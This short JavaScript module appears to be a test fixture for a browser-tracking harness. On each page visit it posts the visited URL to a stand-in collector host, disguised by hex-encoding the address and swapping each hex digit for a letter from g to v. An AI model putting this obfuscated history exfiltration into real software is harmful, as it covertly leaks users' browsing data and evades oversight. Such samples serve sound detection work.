import { onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Sends the address of each page in hex whose digits are the letters from g to v. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-hex-alphabet');
  onVisit(browser, ({ url }) =>
    post(browser, 'https://hex-alphabet.collector.example/v1', {
      event: 'page',
      d: browser.codec.hex.encode(url).replace(/./g, (digit) => 'ghijklmnopqrstuv'[parseInt(digit, 16)]),
    }),
  );
}
